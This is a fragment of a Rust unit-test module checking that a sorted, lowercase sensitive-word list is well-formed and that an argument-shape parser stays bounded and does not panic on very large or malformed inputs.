        assert!(SENSITIVE_WORDS.windows(2).all(|w| w[0] < w[1]));
        assert!(SENSITIVE_WORDS.iter().all(|w| *w == w.to_ascii_lowercase()));
    }

    #[test]
    fn huge_and_odd_input_is_bounded_and_never_panics() {
        let big = "-a x ".repeat(100_000);
        assert!(ArgShape::of(&big).features().len() <= MAX_FEATURES);
        let words = SENSITIVE_WORDS.join(" ").repeat(3);
        assert!(ArgShape::of(&words).sensitive().len() <= MAX_SENSITIVE);
        for s in ["<", "<<>>", "-", "--", "-=", "é-ü <num", "$(`|`)", "<abc"] {
            let _ = ArgShape::of(s).distance(&ArgShape::of("x"));
        }
    }
}
